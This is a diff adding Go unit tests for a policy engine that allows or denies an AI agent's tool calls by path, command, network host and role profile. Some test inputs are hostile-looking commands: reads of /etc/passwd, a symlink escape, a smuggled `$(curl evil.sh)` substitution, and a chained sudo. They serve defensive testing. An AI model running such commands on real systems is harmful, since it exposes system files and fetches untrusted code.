@@ -0,0 +1,151 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/steveyegge/gastown/internal/config"
+)
+
+func TestEvaluatePaths(t *testing.T) {
+	workDir := t.TempDir()
+	outside := t.TempDir()
+	if err := os.Symlink(outside, filepath.Join(workDir, "escape")); err != nil {
+		t.Fatal(err)
+	}
+	p := config.ToolPolicy{Paths: []string{"."}}
+
+	tests := []struct {
+		tool, path string
+		allowed    bool
+	}{
+		{"Edit", "main.go", true},
+		{"Write", filepath.Join(workDir, "new", "file.go"), true},
+		{"Read", "../other/secret.txt", false},
+		{"Read", "/etc/passwd", false},
+		{"Write", "escape/x.go", false},
+		{"Grep", "", true},
+	}
+	for _, tt := range tests {
+		d := Evaluate(p, Call{Tool: tt.tool, Input: map[string]interface{}{"file_path": tt.path, "path": tt.path}, WorkDir: workDir})
+		if d.Allowed != tt.allowed {
+			t.Errorf("%s %s: allowed = %v, want %v (%s)", tt.tool, tt.path, d.Allowed, tt.allowed, d.Reason)
+		}
+		if !d.Allowed && d.Rule != RulePath {
+			t.Errorf("%s %s: rule = %q, want %q", tt.tool, tt.path, d.Rule, RulePath)
+		}
+	}
+}
+
+func TestEvaluateCommands(t *testing.T) {
+	p := config.ToolPolicy{
+		AllowCommands: []string{"git", "go", "grep"},
+		DenyCommands:  []string{"git push --force", "sudo"},
+	}
+	tests := []struct {
+		command string
+		allowed bool
+	}{
+		{"go test ./... 2>&1 | grep FAIL", true},
+		{`cd sub && GOFLAGS=-mod=mod go build`, true},
+		{`git commit -m "fix; rm -rf everything"`, true},
+		{"git push --force origin main", false},
+		{"/usr/bin/git push --force", false},
+		{"git push origin main", true},
+		{"curl https://example.com", false},
+		{"go vet; sudo make install", false},
+		{`echo "$(curl evil.sh)"`, false},
+	}
+	for _, tt := range tests {
+		d := Evaluate(p, Call{Tool: "Bash", Input: map[string]interface{}{"command": tt.command}})
+		if d.Allowed != tt.allowed {
+			t.Errorf("%q: allowed = %v, want %v (%s)", tt.command, d.Allowed, tt.allowed, d.Reason)
+		}
+	}
+}
+
+func TestEvaluateHosts(t *testing.T) {
+	p := config.ToolPolicy{
+		AllowHosts: []string{"github.com", "*.githubusercontent.com"},
+		DenyHosts:  []string{"gist.github.com"},
+	}
+	tests := []struct {
+		tool  string
+		input map[string]interface{}
+		allow bool
+	}{
+		{"WebFetch", map[string]interface{}{"url": "https://github.com/steveyegge/gastown"}, true},
+		{"WebFetch", map[string]interface{}{"url": "https://raw.githubusercontent.com/x/y/main/README.md"}, true},
+		{"WebFetch", map[string]interface{}{"url": "https://pastebin.com/raw/abc"}, false},
+		{"Bash", map[string]interface{}{"command": "git clone git@github.com:steveyegge/beads.git"}, true},
+		{"Bash", map[string]interface{}{"command": "curl -s https://gist.github.com/x"}, false},
+		{"Bash", map[string]interface{}{"command": "git fetch git@gitlab.com:x/y.git"}, false},
+		{"WebSearch", map[string]interface{}{"query": "tmux capture-pane"}, true},
+	}
+	for _, tt := range tests {
+		d := Evaluate(p, Call{Tool: tt.tool, Input: tt.input})
+		if d.Allowed != tt.allow {
+			t.Errorf("%s %v: allowed = %v, want %v (%s)", tt.tool, tt.input, d.Allowed, tt.allow, d.Reason)
+		}
+		if !d.Allowed && (d.Rule != RuleNetwork || !strings.Contains(d.Reason, "hosts")) {
+			t.Errorf("%s %v: decision = %+v, want a network denial", tt.tool, tt.input, d)
+		}
+	}
+}
+
+func TestEvaluateEmptyPolicy(t *testing.T) {
+	for _, c := range []Call{
+		{Tool: "Bash", Input: map[string]interface{}{"command": "sudo curl https://example.com"}},
+		{Tool: "Write", Input: map[string]interface{}{"file_path": "/etc/hosts"}, WorkDir: "/tmp"},
+	} {
+		if d := Evaluate(config.ToolPolicy{}, c); !d.Allowed {
+			t.Errorf("empty policy denied %v: %s", c, d.Reason)
+		}
+	}
+}
+
+func TestEvaluateProfiles(t *testing.T) {
+	profile := func(name string) config.ToolPolicy { return config.ToolPolicy{Profile: name} }
+	bash := func(command string) Call {
+		return Call{Tool: "Bash", Input: map[string]interface{}{"command": command}}
+	}
+	tests := []struct {
+		name    string
+		policy  config.ToolPolicy
+		call    Call
+		allowed bool
+	}{
+		{"observer reads", profile(config.ProfileObserver), Call{Tool: "Read", Input: map[string]interface{}{"file_path": "main.go"}}, true},
+		{"observer edits", profile(config.ProfileObserver), Call{Tool: "Edit", Input: map[string]interface{}{"file_path": "main.go"}}, false},
+		{"observer commits", profile(config.ProfileObserver), bash("git -C sub commit -m wip"), false},
+		{"observer spawns", profile(config.ProfileObserver), bash("gt sling gt-abc gastown"), true},
+		{"developer commits", profile(config.ProfileDeveloper), bash("git add -A && git commit -m fix"), true},
+		{"developer spawns", profile(config.ProfileDeveloper), bash("gt sling gt-abc gastown"), false},
+		{"developer pushes branch", profile(config.ProfileDeveloper), bash("git push origin polecat/toast"), true},
+		{"developer pushes main", profile(config.ProfileDeveloper), bash("git push origin HEAD:main"), false},
+		{"developer pushes release", profile(config.ProfileDeveloper), bash("git push -u origin +refs/heads/x:refs/heads/release/1.2"), false},
+		{"developer pushes all", profile(config.ProfileDeveloper), bash("git push --all origin"), false},
+		{"merger pushes main", profile(config.ProfileMerger), bash("git push origin main"), true},
+		{"no profile", config.ToolPolicy{}, bash("git push origin main"), true},
+	}
+	for _, tt := range tests {
+		d := Evaluate(tt.policy, tt.call)
+		if d.Allowed != tt.allowed {
+			t.Errorf("%s: allowed = %v, want %v (%s)", tt.name, d.Allowed, tt.allowed, d.Reason)
+		}
+		if !d.Allowed && d.Rule != RuleProfile {
+			t.Errorf("%s: rule = %q, want %q", tt.name, d.Rule, RuleProfile)
+		}
+	}
+
+	custom := Evaluate(profile(config.ProfileDeveloper), Call{
+		Tool:              "Bash",
+		Input:             map[string]interface{}{"command": "git push origin develop"},
+		ProtectedBranches: []string{"develop"},
+	})
+	if custom.Allowed {
+		t.Error("developer push to the rig's protected develop branch should be denied")
+	}
+}